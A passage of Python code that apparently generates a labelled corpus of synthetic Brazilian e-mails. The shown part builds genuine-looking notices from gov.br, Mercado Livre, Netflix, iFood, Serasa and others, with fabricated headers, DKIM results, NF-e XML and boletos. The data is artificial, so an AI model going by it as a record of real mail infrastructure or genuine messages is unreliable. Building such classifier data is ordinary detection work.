                    paras=paras, footer=foot, font="Rawline, Raleway, Arial, sans-serif")
    add(Mail(f"b{N}-legit-govbr-alteracao-email", "bulk",
             "Genuine gov.br account notice that the account e-mail was changed, sent from acesso.gov.br infrastructure, asking the user to type contas.acesso.gov.br if it was not them.",
             GM1, "gmail", "direct", "gov.br", "naoresponda@acesso.gov.br", "Alteração de e-mail da conta gov.br",
             dt(2025, 5, 5, 21, 13, 40), alt(plain_of("Alteração de e-mail da conta gov.br", paras, None, foot), html, bnd(tag)),
             ip="161.148.164.30", helo="smtp2.acesso.gov.br", policy="quarantine",
             dkim=[("acesso.gov.br", "govbr", "pass")], msgid=f"<{uuid(tag+'m')}@acesso.gov.br>"))

    # L9 Mercado Livre shipment
    tag = "l-ml-envio"
    link = f"https://www.mercadolivre.com.br/vendas/{digits(tag+'p', 16)}/detalhe?utm_source=email&utm_campaign=shipping"
    paras = ["Olá, Eduardo!", "Seu pacote <b>chega amanhã</b>.",
             "<b>Fone de Ouvido JBL Tune 520BT - Preto</b><br>1 unidade",
             "Entrega pelo Mercado Envios Full. Alguém precisa estar no endereço para receber. Se não houver ninguém, faremos uma "
             "nova tentativa no próximo dia útil, sem custo.", "Acompanhe a entrega pelo app."]
    foot = ["Mercado Livre - Ebazar.com.br Ltda. CNPJ 03.007.331/0001-41",
            "Av. das Nações Unidas, 3003 - Bonfim, Osasco/SP"]
    html = esp_card(color="#FFE600", logo="https://http2.mlstatic.com/frontend-assets/ml-web-navigation/ui-navigation/6.6.92/mercadolibre/logo__large_plus.png",
                    logo_alt="Mercado Livre", preheader="Seu pacote chega amanhã", title="Seu pacote chega amanhã", paras=paras,
                    button=("Acompanhar compra", link), footer=foot)
    add(Mail(f"b{N}-legit-mercadolivre-pacote-amanha", "bulk",
             "Genuine Mercado Livre shipping update ('seu pacote chega amanhã') from Mercado Libre mail servers with aligned DKIM and a link to mercadolivre.com.br.",
             HOT2, "outlook", "direct", "Mercado Livre", "info@mercadolivre.com", "Seu pacote chega amanhã",
             dt(2025, 9, 18, 19, 2, 11), alt(plain_of("Seu pacote chega amanhã", paras, ("Acompanhar compra", link), foot), html, bnd(tag)),
             ip="200.226.12.110", helo="mail-out-sp15.mercadolibre.com", policy="reject",
             dkim=[("mercadolivre.com", "ml2021", "pass")], mailfrom=f"bounce-{hx(tag+'b', 16)}@mail.mercadolivre.com",
             msgid=f"<{uuid(tag+'m')}@mail.mercadolivre.com>"))


def nfe_xml(tag: str, emit_cnpj: str, emit_name: str, dest_doc: str, dest_name: str, items: list[tuple[str, str, float, int]],
            nnf: str, uf_code: str = "35", when: str = "2025-06-03T14:22:10-03:00") -> tuple[bytes, str]:
    chave = f"{uf_code}{when[2:4]}{when[5:7]}{emit_cnpj}55001{nnf.zfill(9)}1{digits(tag+'cn', 8)}"
    dv = sum(int(c) * w for c, w in zip(reversed(chave), [2, 3, 4, 5, 6, 7, 8, 9] * 6)) % 11
    chave += str(0 if dv < 2 else 11 - dv)
    det = ""
    total = 0.0
    for i, (code, desc, price, qty) in enumerate(items, 1):
        v = price * qty
        total += v
        det += (f"<det nItem=\"{i}\"><prod><cProd>{code}</cProd><cEAN>SEM GTIN</cEAN><xProd>{desc}</xProd><NCM>84713012</NCM>"
                f"<CFOP>5102</CFOP><uCom>UN</uCom><qCom>{qty:.4f}</qCom><vUnCom>{price:.10f}</vUnCom><vProd>{v:.2f}</vProd>"
                f"<cEANTrib>SEM GTIN</cEANTrib><uTrib>UN</uTrib><qTrib>{qty:.4f}</qTrib><vUnTrib>{price:.10f}</vUnTrib><indTot>1</indTot></prod>"
                f"<imposto><ICMS><ICMSSN102><orig>0</orig><CSOSN>102</CSOSN></ICMSSN102></ICMS></imposto></det>\n")
    dest_tag = "CNPJ" if len(dest_doc) == 14 else "CPF"
    xml = ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
           "<nfeProc xmlns=\"http://www.portalfiscal.inf.br/nfe\" versao=\"4.00\"><NFe xmlns=\"http://www.portalfiscal.inf.br/nfe\">\n"
           f"<infNFe Id=\"NFe{chave}\" versao=\"4.00\"><ide><cUF>{uf_code}</cUF><cNF>{chave[35:43]}</cNF><natOp>VENDA DE MERCADORIA</natOp>"
           f"<mod>55</mod><serie>1</serie><nNF>{int(nnf)}</nNF><dhEmi>{when}</dhEmi><tpNF>1</tpNF><idDest>1</idDest>"
           f"<tpImp>1</tpImp><tpEmis>1</tpEmis><cDV>{chave[-1]}</cDV><tpAmb>1</tpAmb><finNFe>1</finNFe><indFinal>1</indFinal>"
           "<indPres>2</indPres><procEmi>0</procEmi><verProc>Bling 3.0</verProc></ide>\n"
           f"<emit><CNPJ>{emit_cnpj}</CNPJ><xNome>{emit_name}</xNome><CRT>1</CRT></emit>\n"
           f"<dest><{dest_tag}>{dest_doc}</{dest_tag}><xNome>{dest_name}</xNome><indIEDest>9</indIEDest></dest>\n{det}"
           f"<total><ICMSTot><vBC>0.00</vBC><vICMS>0.00</vICMS><vProd>{total:.2f}</vProd><vFrete>0.00</vFrete><vNF>{total:.2f}</vNF></ICMSTot></total>\n"
           "<transp><modFrete>0</modFrete></transp><pag><detPag><tPag>17</tPag>"
           f"<vPag>{total:.2f}</vPag></detPag></pag></infNFe>\n"
           f"<Signature xmlns=\"http://www.w3.org/2000/09/xmldsig#\"><SignedInfo><CanonicalizationMethod Algorithm=\"http://www.w3.org/TR/2001/REC-xml-c14n-20010315\"/>"
           f"<SignatureMethod Algorithm=\"http://www.w3.org/2000/09/xmldsig#rsa-sha1\"/><Reference URI=\"#NFe{chave}\"><DigestValue>{b64s(tag+'dv', 27)}=</DigestValue></Reference></SignedInfo>"
           f"<SignatureValue>{b64s(tag+'sv', 170)}==</SignatureValue></Signature></NFe>\n"
           f"<protNFe versao=\"4.00\"><infProt><tpAmb>1</tpAmb><verAplic>SP_NFE_PL009_V4</verAplic><chNFe>{chave}</chNFe>"
           f"<dhRecbto>{when}</dhRecbto><nProt>1{uf_code}{digits(tag+'prot', 12)}</nProt><cStat>100</cStat>"
           "<xMotivo>Autorizado o uso da NF-e</xMotivo></infProt></protNFe></nfeProc>\n")
    return xml.encode(), chave


def legit_2():
    # L10 NF-e from an online shop via Bling (XML + DANFE)
    tag = "l-bling-nfe"
    xml, chave = nfe_xml(tag, "41228907000153", "CASA E AROMA DECORACOES LTDA", "32198745600", "LUCIANA FERRAZ",
                         [("DIF-0231", "DIFUSOR DE VARETAS LAVANDA 250ML", 79.90, 2), ("VEL-114", "VELA AROMATICA VANILLA 180G", 49.90, 1)],
                         "8841", when="2025-06-03T14:22:10-03:00")
    danfe = files.pdf(["DANFE - DOCUMENTO AUXILIAR DA NOTA FISCAL ELETRONICA", "CASA E AROMA DECORACOES LTDA - CNPJ 41.228.907/0001-53",
                       "NF-e No 000.008.841  Serie 001", "Chave de acesso:", " ".join(chave[i:i + 4] for i in range(0, 44, 4)),
                       "Protocolo de autorizacao: autorizado o uso da NF-e", "Destinatario: LUCIANA FERRAZ",
                       "DIFUSOR DE VARETAS LAVANDA 250ML  2 x 79,90", "VELA AROMATICA VANILLA 180G  1 x 49,90",
                       "VALOR TOTAL DA NOTA: R$ 209,70"], title=f"DANFE {chave}")
    paras = ["Olá, LUCIANA FERRAZ,", "Segue a Nota Fiscal Eletrônica referente à sua compra na <b>Casa e Aroma Decor</b>.",
             f"<b>Número:</b> 8841 &nbsp; <b>Série:</b> 1<br><b>Valor:</b> R$ 209,70<br><b>Chave de acesso:</b> {chave}",
             "Os arquivos XML e DANFE (PDF) estão anexados a este e-mail. Você também pode consultar a autenticidade no "
             "<a href=\"https://www.nfe.fazenda.gov.br/portal/consultaRecaptcha.aspx?tipoConteudo=7PhJ+gAVw2g=\">Portal da Nota Fiscal Eletrônica</a>.",
             "Obrigado pela preferência!"]
    foot = ["Casa e Aroma Decor - contato@casaearomadecor.com.br", "Nota fiscal emitida através do Bling - www.bling.com.br"]
    html = esp_card(color="#3E4CC1", logo="https://s3.amazonaws.com/bling-logos/41228907000153/logo.png", logo_alt="Casa e Aroma Decor",
                    preheader="Nota fiscal da sua compra", title="Nota Fiscal Eletrônica", paras=paras, footer=foot)
    body = Multi("mixed", bnd(tag + "m"), [alt(plain_of("Nota Fiscal Eletrônica", paras, None, foot), html, bnd(tag)),
                                           attachment("text/xml", f"{chave}-nfe.xml", xml),
                                           attachment("application/pdf", f"DANFE-{chave}.pdf", danfe)])
    add(Mail(f"b{N}-legit-bling-nfe-loja-online", "bulk",
             "Genuine NF-e e-mail from a small online shop issued through the Bling ERP (Amazon SES, bling.com.br DKIM), with the NF-e XML and DANFE PDF attached and the shop as Reply-To.",
             GM2, "gmail", "ses", "Casa e Aroma Decor", "nfe@bling.com.br", "Nota Fiscal Eletrônica 8841 - Casa e Aroma Decor",
             dt(2025, 6, 3, 14, 23, 2), body, policy="none", reply_to="contato@casaearomadecor.com.br",
             mailfrom=f"0100019{hx(tag+'mf', 9)}-{uuid(tag+'mfu')}-000000@mail.bling.com.br"))

    # L11 Supplier sends NF-e + boleto to the workshop (personal business mail)
    tag = "l-fornecedor-nfe"
    xml, chave = nfe_xml(tag, "08771245000190", "AUTOPECAS RIBEIRAO LTDA", "27114558000162", "OFICINA BOA VIAGEM LTDA ME",
                         [("PST-N2231", "PASTILHA FREIO DIANT COBREQ N2231", 118.50, 4),
                          ("DSC-0987", "DISCO FREIO VENTILADO FREMAX BD0987", 214.00, 2)], "45211", when="2025-08-12T09:41:55-03:00")
    danfe = files.pdf(["DANFE", "AUTOPECAS RIBEIRAO LTDA - CNPJ 08.771.245/0001-90", "NF-e No 000.045.211 Serie 001",
                       "Chave de acesso: " + chave, "Destinatario: OFICINA BOA VIAGEM LTDA ME", "VALOR TOTAL: R$ 902,00"],
                      title="DANFE 45211")
    boleto = files.pdf(["AUTOPECAS RIBEIRAO LTDA", "Boleto referente NF 45211 - vencimento 11/09/2025",
                        "Banco: 756 - Sicoob", "Beneficiario: AUTOPECAS RIBEIRAO LTDA - CNPJ 08.771.245/0001-90",
                        "Pagador: OFICINA BOA VIAGEM LTDA ME", "Valor: R$ 902,00", "Linha digitavel:", boleto_line(tag, "756")],
                       title="Boleto NF 45211")
    plain = ("Bom dia Sr. Valdir,\n\nSegue em anexo a NF-e 45211 e o boleto referente às pastilhas e discos entregues ontem.\n"
             "Vencimento para 30 dias (11/09), como combinado.\n\nQualquer divergência me avise.\n\n"
             "Att.\nPatrícia Gomes\nFaturamento - Autopeças Ribeirão\n(16) 3625-1180 | WhatsApp (16) 99211-4480\n")
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=iso-8859-1\"></head><body lang=\"PT-BR\">"
            "<div><p>Bom dia Sr. Valdir,</p><p>Segue em anexo a NF-e 45211 e o boleto referente às pastilhas e discos entregues ontem.<br>"
            "Vencimento para 30 dias (11/09), como combinado.</p><p>Qualquer divergência me avise.</p>"
            "<p>Att.<br><b>Patrícia Gomes</b><br>Faturamento - Autopeças Ribeirão<br>(16) 3625-1180 | WhatsApp (16) 99211-4480</p></div></body></html>\n")
    body = Multi("mixed", bnd(tag + "m", "ol16"), [Multi("alternative", bnd(tag, "ol16"), [text(plain, "plain", "quoted-printable", "iso-8859-1"),
                                                                           text(html, "html", "quoted-printable", "iso-8859-1")]),
                                           attachment("application/xml", f"{chave}.xml", xml),
                                           attachment("application/pdf", "DANFE_45211.pdf", danfe),
                                           attachment("application/pdf", "Boleto_NF45211.pdf", boleto)])
    m = Mail(f"b{N}-legit-fornecedor-nfe-boleto", "clean",
             "Genuine one-to-one mail from an auto-parts supplier (Locaweb mailbox, Outlook) to a workshop with the NF-e XML, DANFE and boleto for goods delivered the day before.",
             PF, "postfix", "locaweb", "Patrícia Gomes - Autopeças Ribeirão", "faturamento@autopecasribeirao.com.br",
             "NF-e 45211 e boleto - Oficina Boa Viagem", dt(2025, 8, 12, 9, 52, 31), body, policy="none",
             dkim=[("autopecasribeirao.com.br", "default", "pass")], charset="iso-8859-1", hmode="Q",
             rx_host="mail.oficinaboaviagem.com.br", xmailer="Microsoft Outlook 16.0", to="\"Oficina Boa Viagem\" <contato@oficinaboaviagem.com.br>")
    m.client_ip = "177.92.41.130"
    add(m)

    # L12 Condominium boleto via Superlógica
    tag = "l-condominio"
    line = boleto_line(tag, "341")
    boleto = files.pdf(["CONDOMINIO EDIFICIO JACARANDA", "Unidade: Apto 82 - Bloco B", "Competencia: 10/2025  Vencimento: 10/10/2025",
                        "Taxa condominial: R$ 780,00  Fundo de reserva: R$ 39,00  Agua: R$ 92,14", "Total: R$ 911,14",
                        "Banco: 341 - Itau Unibanco", "Beneficiario: CONDOMINIO EDIFICIO JACARANDA - CNPJ 05.448.912/0001-30",
                        "Linha digitavel:", line], title="Boleto 10/2025")
    paras = ["Prezado(a) condômino(a) ROBERTO COSTA,", "Segue o boleto da taxa condominial de <b>outubro/2025</b>.",
             f"<b>Unidade:</b> Apto 82 - Bloco B<br><b>Vencimento:</b> 10/10/2025<br><b>Valor:</b> R$ 911,14",
             f"<b>Linha digitável:</b><br>{line}",
             "Você também pode pagar via Pix pelo QR Code impresso no boleto ou acessar a 2ª via no aplicativo Superlógica/Área do Condômino.",
             "Administradora Lar Paulista - (11) 3872-4410"]
    link = f"https://condominio.superlogica.net/clients/areadocondomino/boletos/index?id={hx(tag+'i', 20)}"
    foot = ["Mensagem enviada pela Administradora Lar Paulista através da Superlógica.",
            "Não responda este e-mail. Em caso de dúvidas, contate a administradora."]
    html = esp_card(color="#2C3E50", logo="https://cdn.superlogica.net/logos/larpaulista.png", logo_alt="Lar Paulista",
                    preheader="Boleto do condomínio - outubro/2025", title="Boleto do condomínio - Outubro/2025", paras=paras,
                    button=("Área do condômino", link), footer=foot)
    body = Multi("mixed", bnd(tag + "m"), [alt(plain_of("Boleto do condomínio - Outubro/2025", paras, ("Área do condômino", link), foot),
                                               html, bnd(tag)),
                                           attachment("application/pdf", "boleto_apto82B_102025.pdf", boleto)])
    add(Mail(f"b{N}-legit-superlogica-boleto-condominio", "bulk",
             "Genuine condominium boleto for October/2025 sent by the building's administrator through Superlógica (SendGrid), PDF boleto attached with matching beneficiary.",
             UOL1, "uol", "sendgrid", "Condomínio Edifício Jacarandá", "naoresponda@superlogica.net",
             "Boleto condomínio - Outubro/2025 - Apto 82 B", dt(2025, 9, 25, 7, 3, 19), body, policy="none",
             reply_to="atendimento@larpaulista.com.br"))

    # L13 Enel conta digital
    tag = "l-enel"
    dom = "comunicacao.enel.com"
    link = sfmc_link(tag, dom)
    paras = ["Olá, EDUARDO SANTOS,", "Sua conta de energia de <b>setembro/2025</b> já está disponível.",
             f"<b>Instalação:</b> {digits(tag+'i', 10)}<br><b>Valor:</b> R$ 247,18<br><b>Vencimento:</b> 06/10/2025",
             "A conta está em débito automático e será paga na data do vencimento. Acesse a conta completa no app Enel SP ou no site."]
    foot = ["Enel Distribuição São Paulo - CNPJ 61.695.227/0001-93", "Atendimento 0800 72 72 196",
            f"<a href=\"{sfmc_link(tag+'u', dom)}\">Cancelar recebimento</a>"]
    html = esp_card(color="#E6007E", logo="https://image.comunicacao.enel.com/lib/fe9f1372716c0479/m/1/enel-logo.png", logo_alt="enel",
                    preheader="Sua conta de setembro chegou", title="Sua conta de energia chegou", paras=paras,
                    button=("Ver conta completa", link), footer=foot)
    add(Mail(f"b{N}-legit-enel-conta-digital", "bulk",
             "Genuine Enel SP 'sua conta de energia chegou' notice (débito automático), from Enel's marketing-cloud subdomain with tracked link to enel.com.br.",
             HOT2, "outlook", "sfmc", "Enel SP", f"contadigital@{dom}", "Sua conta Enel de setembro/2025 chegou",
             dt(2025, 9, 22, 9, 14, 8),
             alt(plain_of("Sua conta de energia chegou", paras, ("Ver conta completa", link), foot), html, bnd(tag)),
             policy="reject", extra=[f"List-Unsubscribe: <{sfmc_link(tag+'u', dom)}>"]))

    # L14 Vivo fatura genuine
    tag = "l-vivo"
    dom = "comunica.vivo.com.br"
    link = sfmc_link(tag, dom)
    paras = ["Olá, CARLOS MENEZES!", "Sua conta Vivo Fibra + Pós de <b>outubro</b> está disponível.",
             "<b>Valor:</b> R$ 214,90<br><b>Vencimento:</b> 15/10/2025<br><b>Código de cliente:</b> " + digits(tag + "c", 10),
             "Pague com Pix ou código de barras pelo app Vivo, ou cadastre o débito automático."]
    foot = ["Telefônica Brasil S.A. - CNPJ 02.558.157/0001-62", "Central de Relacionamento: *8486 ou 1058",
            f"<a href=\"{sfmc_link(tag+'u', dom)}\">Descadastrar</a>"]
    html = esp_card(color="#660099", logo="https://image.comunica.vivo.com.br/lib/fe3a157075640c7e77/m/1/vivo-logo.png", logo_alt="Vivo",
                    preheader="Conta Vivo de outubro", title="Sua conta Vivo chegou", paras=paras, button=("Ver conta no app", link),
                    footer=foot)
    add(Mail(f"b{N}-legit-vivo-conta-outubro", "bulk",
             "Genuine Vivo bill-available notice via Salesforce Marketing Cloud from Vivo's communication subdomain, pointing to the app.",
             TERRA1, "terra", "sfmc", "Vivo", f"vivo@{dom}", "Sua conta Vivo de outubro chegou", dt(2025, 10, 3, 11, 30, 0),
             alt(plain_of("Sua conta Vivo chegou", paras, ("Ver conta no app", link), foot), html, bnd(tag)),
             policy="reject", extra=[f"List-Unsubscribe: <{sfmc_link(tag+'u', dom)}>"]))

    # L15 Netflix genuine payment problem
    tag = "l-netflix"
    link = f"https://www.netflix.com/YourAccount?g={uuid(tag+'g')}&lkid=URL_UPDATE_PAYMENT&lnktrk=EVO"
    paras = ["Olá, João Pedro,", "Tivemos um problema com sua forma de pagamento atual. Vamos tentar novamente, mas, enquanto isso, "
             "recomendamos atualizar suas informações de pagamento.",
             "Enquanto isso, você ainda pode assistir normalmente."]
    foot = ["Dúvidas? Ligue 0800 761 4631", "Netflix Entretenimento Brasil Ltda. - Alameda Vicente Pinzón, 54 - São Paulo/SP",
            "Esta mensagem foi enviada para joaopedro.almeida@gmail.com pela Netflix como parte de sua assinatura.",
            "<a href=\"https://help.netflix.com/legal/termsofuse\">Termos de uso</a> | <a href=\"https://help.netflix.com/legal/privacy\">Privacidade</a>"]
    html = esp_card(color="#000000", logo="https://assets.nflxext.com/us/email/gem/nflx.png", logo_alt="Netflix",
                    preheader="Atualize sua forma de pagamento", title="Atualize sua forma de pagamento", paras=paras,
                    button=("Atualizar forma de pagamento", link), footer=foot, font="NetflixSans, Helvetica, Roboto, Arial, sans-serif")
    add(Mail(f"b{N}-legit-netflix-problema-pagamento", "bulk",
             "Genuine Netflix payment-problem notice from account.netflix.com (Netflix MTAs, aligned DKIM, DMARC reject) linking to netflix.com/YourAccount.",
             GM1, "gmail", "direct", "Netflix", "info@account.netflix.com", "Atualize sua forma de pagamento",
             dt(2025, 1, 7, 3, 22, 9), alt(plain_of("Atualize sua forma de pagamento", paras, ("Atualizar forma de pagamento", link), foot),
                                            html, bnd(tag)),
             ip="69.53.224.36", helo="omta-ha-e1-36.netflix.com", policy="reject",
             dkim=[("netflix.com", "netflix", "pass")], mailfrom=f"bounces+{hx(tag+'b', 20)}@bounces.netflix.com",
             msgid=f"<{uuid(tag+'m')}.{num(tag+'mm', 1000, 9999)}@ses-us-east-1.netflix.com>"))

    # L16 iFood order receipt
    tag = "l-ifood"
    paras = ["Oi, Mariana!", "Seu pedido foi entregue. Bom apetite!",
             "<b>Restaurante:</b> Madero Container - Vila Mariana<br><b>Pedido nº</b> " + digits(tag + "p", 4) + "<br>"
             "1x Cheeseburger Madero - R$ 54,90<br>1x Batata Rústica - R$ 22,90<br>Taxa de entrega: R$ 5,99<br><b>Total: R$ 83,79</b>",
             "Pagamento: Cartão Visa final 9012 (pago pelo app)", "Avalie seu pedido e ajude outros clientes."]
    link = f"https://www.ifood.com.br/pedidos/{uuid(tag+'o')}/avaliar?utm_source=email"
    foot = ["iFood.com Agência de Restaurantes Online S.A. - CNPJ 14.380.200/0001-21",
            "Av. dos Autonomistas, 1496 - Osasco/SP"]
    html = esp_card(color="#EA1D2C", logo="https://static.ifood-static.com.br/image/upload/f_auto/webapp/logo-ifood.png", logo_alt="iFood",
                    preheader="Seu pedido foi entregue", title="Pedido entregue", paras=paras, button=("Avaliar pedido", link), footer=foot)
    add(Mail(f"b{N}-legit-ifood-pedido-entregue", "bulk",
             "Genuine iFood order-delivered receipt (Amazon SES with ifood.com.br DKIM) with the order items and a link to rate the order.",
             HOT1, "outlook", "ses", "iFood", "naoresponda@ifood.com.br", "Seu pedido foi entregue", dt(2025, 5, 24, 21, 12, 40),
             alt(plain_of("Pedido entregue", paras, ("Avaliar pedido", link), foot), html, bnd(tag)), policy="reject",
             mailfrom=f"0100019{hx(tag+'mf', 9)}-{uuid(tag+'mfu')}-000000@mail.ifood.com.br"))


def legit_3():
    # L17 Shopee 11.11 newsletter
    tag = "l-shopee"
    link = sg_click(tag)
    paras = ["Fernanda, o <b>11.11 Shopee</b> chegou!", "Cupons de até R$ 50 OFF, frete grátis acima de R$ 19 e ofertas relâmpago "
             "a cada hora. Os cupons são liberados à meia-noite e esgotam rápido.",
             "Confira também: Live Shopee com 11 lives especiais e moedas em dobro no app."]
    foot = ["Shopee Brasil - Av. Brigadeiro Faria Lima, 3732 - São Paulo/SP",
            f"Você recebeu este e-mail porque se cadastrou na Shopee. <a href=\"{sg_click(tag+'u')}\">Cancelar inscrição</a>"]
    html = esp_card(color="#EE4D2D", logo="https://deo.shopeemobile.com/shopee/shopee-pcmall-live-sg/assets/logo-white.png",
                    logo_alt="Shopee", preheader="Cupons de até R$ 50 OFF", title="11.11: a maior promoção do ano", paras=paras,
                    button=("Ir para o app", link), footer=foot)
    add(Mail(f"b{N}-legit-shopee-11-11", "bulk",
             "Genuine Shopee Brasil 11.11 marketing newsletter via SendGrid from its mail subdomain with aligned DKIM and List-Unsubscribe.",
             BOL1, "bol", "sendgrid", "Shopee", "info@mail.shopee.com.br", "🛒 11.11 chegou: cupons de até R$ 50 OFF",
             dt(2025, 11, 10, 20, 0, 3),
             alt(plain_of("11.11: a maior promoção do ano", paras, ("Ir para o app", link), foot), html, bnd(tag, "sg")),
             policy="reject", extra=[f"List-Unsubscribe: <{sg_click(tag+'u')}>", "List-Unsubscribe-Post: List-Unsubscribe=One-Click"]))

    # L18 Serasa genuine Feirão Limpa Nome marketing
    tag = "l-serasa"
    dom = "news.serasa.com.br"
    link = sfmc_link(tag, dom)
    paras = ["Olá, Mariana!", "O <b>Feirão Limpa Nome</b> está de volta, com ofertas de mais de 1.000 empresas parceiras e descontos "
             "que podem chegar a 99%.", "Consulte gratuitamente se há ofertas para o seu CPF no app Serasa ou em serasa.com.br. "
             "Os acordos são pagos por boleto ou Pix gerados dentro da sua conta Serasa.",
             "Atenção: a Serasa não envia cobranças por WhatsApp ou e-mail com chave Pix. Só feche acordos dentro do app ou site oficial."]
    foot = ["Serasa S.A. - Av. das Nações Unidas, 14401 - São Paulo/SP",
            f"<a href=\"{sfmc_link(tag+'u', dom)}\">Descadastrar</a>"]
    html = esp_card(color="#E80070", logo="https://image.news.serasa.com.br/lib/fe4115707564047f7c/m/1/serasa-logo.png", logo_alt="Serasa",
                    preheader="Ofertas com até 99% de desconto", title="Feirão Limpa Nome começou", paras=paras,
                    button=("Consultar meu CPF", link), footer=foot)
    add(Mail(f"b{N}-legit-serasa-feirao-limpa-nome", "bulk",
             "Genuine Serasa 'Feirão Limpa Nome' campaign e-mail from news.serasa.com.br (aligned DKIM) pointing to serasa.com.br and warning against Pix collection by e-mail.",
             HOT1, "outlook", "sfmc", "Serasa", f"serasa@{dom}", "Feirão Limpa Nome: descontos de até 99% para limpar seu nome",
             dt(2025, 3, 10, 12, 0, 0),
             alt(plain_of("Feirão Limpa Nome começou", paras, ("Consultar meu CPF", link), foot), html, bnd(tag)),
             policy="reject", extra=[f"List-Unsubscribe: <{sfmc_link(tag+'u', dom)}>"]))

    # L19 Instagram new-login alert
    tag = "l-insta"
    paras = ["Olá, luferraz.adv,", "Detectamos um novo login na sua conta do Instagram em <b>22 de setembro de 2025 às 20:41</b> "
             "(horário de Brasília).", "<b>Dispositivo:</b> Instagram para iPhone<br><b>Localização aproximada:</b> Campinas, São Paulo, Brasil",
             "Se foi você, não é necessário fazer nada. Se não foi você, ajudaremos a proteger sua conta.",
             "<a href=\"https://www.instagram.com/accounts/disavow/?uidb36=" + lower(tag + "u", 8) + "&token=" + lower(tag + "t", 24) +
             "\">Não fui eu</a> &nbsp;|&nbsp; <a href=\"https://www.instagram.com/accounts/login_activity/\">Revisar atividade de login</a>"]
    foot = ["© Instagram. Meta Platforms, Inc., 1601 Willow Road, Menlo Park, CA 94025",
            f"Esta mensagem foi enviada para {GM2} e destina-se a luferraz.adv."]
    html = esp_card(color="#ffffff", logo="https://static.cdninstagram.com/rsrc.php/v4/yR/r/instagram-logo.png", logo_alt="Instagram",
                    preheader="Novo login no Instagram", title="Novo login na sua conta", paras=paras, footer=foot,
                    font="Helvetica Neue, Helvetica, Lucida Grande, tahoma, verdana, arial, sans-serif")
    add(Mail(f"b{N}-legit-instagram-novo-login", "bulk",
             "Genuine Instagram new-login security alert from security@mail.instagram.com (Meta mail servers, aligned DKIM) with links to instagram.com only.",
             GM2, "gmail", "direct", "Instagram", "security@mail.instagram.com", "Novo login no Instagram de Instagram para iPhone",
             dt(2025, 9, 22, 20, 42, 15), alt(plain_of("Novo login na sua conta", paras, None, foot), html, bnd(tag)),
             ip="69.171.232.145", helo="69-171-232-145.mail-mxout.facebook.com", policy="reject",
             dkim=[("mail.instagram.com", "s1024-2013-q3", "pass")], mailfrom="security@mail.instagram.com",
             msgid=f"<{hx(tag+'m', 32)}@facebook.com>"))

    # L20 Genuine Google Sheets share from a relative
    tag = "l-gsheets"
    fid = alnum(tag + "f", 44)
    url = f"https://docs.google.com/spreadsheets/d/{fid}/edit?usp=sharing_eil_se_dm&ts={hx(tag+'ts', 8)}"
    name = "Orçamento reforma apartamento 2025"
    html = ("<!DOCTYPE html><html lang=\"pt-BR\"><head><meta charset=\"utf-8\"></head><body style=\"margin:0;padding:0;background:#fff;\">"
            "<table role=\"presentation\" width=\"100%\" style=\"max-width:520px;margin:auto;font-family:'Google Sans',Roboto,Arial,sans-serif;\">"
            "<tr><td style=\"padding:24px 0 8px;\"><img src=\"https://www.gstatic.com/images/branding/productlogos/sheets_2020q4/v8/web-48dp/logo_sheets_2020q4_color_2x_web_48dp.png\" width=\"40\" alt=\"Planilhas Google\"></td></tr>"
            "<tr><td style=\"font-size:22px;color:#202124;padding-bottom:12px;\">Paula Menezes compartilhou uma planilha</td></tr>"
            "<tr><td style=\"font-size:14px;color:#3c4043;padding-bottom:16px;\"><div style=\"border-left:3px solid #dadce0;padding-left:12px;\">"
            "Pai, coloquei os três orçamentos da cozinha e do banheiro lado a lado. Dá uma olhada na aba \"Comparativo\" antes de domingo.</div></td></tr>"
            f"<tr><td style=\"padding-bottom:16px;\"><a href=\"{url}\" style=\"display:inline-block;border:1px solid #dadce0;border-radius:8px;padding:10px 14px;color:#3c4043;text-decoration:none;font-size:14px;\">{name}</a></td></tr>"
            f"<tr><td><a href=\"{url}\" style=\"background:#0b57d0;color:#fff;border-radius:20px;padding:10px 24px;text-decoration:none;font-size:14px;\">Abrir</a></td></tr>"
            "<tr><td style=\"font-size:12px;color:#5f6368;padding-top:28px;\">Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA<br>"
            "Você recebeu este e-mail porque paula.menezes.arq@gmail.com compartilhou uma planilha com você nas Planilhas Google.</td></tr>"
            "</table></body></html>\n")
    plain = (f"Paula Menezes compartilhou uma planilha\n\nPai, coloquei os três orçamentos da cozinha e do banheiro lado a lado. Dá uma "
             f"olhada na aba \"Comparativo\" antes de domingo.\n\n{name}\n{url}\n\nGoogle LLC, 1600 Amphitheatre Parkway, Mountain View, "
             "CA 94043, USA\n")
    add(Mail(f"b{N}-legit-google-planilha-compartilhada", "bulk",
             "Genuine Google Sheets share notification from a daughter's Gmail account (google.com DKIM) with a personal note and a docs.google.com link.",
             TERRA1, "terra", "gmail", "Paula Menezes (via Planilhas Google)", "drive-shares-dm-noreply@google.com",
             f"Planilha compartilhada com você: \"{name}\"", dt(2025, 7, 11, 22, 5, 50),
             alt(plain, html, bnd(tag, "gmail")), policy="reject",
             mailfrom=f"3{alnum(tag+'mf', 20)}@doclist.bounces.google.com", helo="mail-sor-f73.google.com", ip="209.85.220.73",
             dkim=[("google.com", "20230601", "pass")],
             msgid=f"<{alnum(tag+'mid', 22)}-{alnum(tag+'mid2', 10)}@docs-share.google.com>",
             reply_to='"Paula Menezes" <paula.menezes.arq@gmail.com>'))

    # L21 Clicksign genuine rental contract
    tag = "l-clicksign"
    link = f"https://app.clicksign.com/sign/{uuid(tag+'s')}"
    paras = ["Olá, João Pedro Almeida,", "<b>Imobiliária Horizonte</b> enviou o documento <b>Contrato de Locação - Rua Pium-í, 410 ap 302</b> "
             "para você assinar.", "Mensagem do remetente: \"Bom dia João, segue o contrato revisado com a cláusula do reajuste pelo IPCA, "
             "conforme combinamos. Qualquer dúvida me chame. Renata\"",
             "Prazo para assinatura: 21/02/2025"]
    foot = ["Clicksign Gestão de Documentos S.A.", "Este documento foi enviado por renata@imobiliariahorizonte.com.br.",
            "Dúvidas sobre o documento? Fale diretamente com quem enviou."]
    html = esp_card(color="#1C49E0", logo="https://app.clicksign.com/assets/logo-clicksign-white.png", logo_alt="Clicksign",
                    preheader="Documento para assinar", title="Você tem um documento para assinar", paras=paras,
                    button=("Visualizar para assinar", link), footer=foot)
    add(Mail(f"b{N}-legit-clicksign-contrato-locacao", "bulk",
             "Genuine Clicksign signature request for a rental contract sent via Amazon SES from clicksign.com (aligned DKIM), with the sender's personal note and an app.clicksign.com link.",
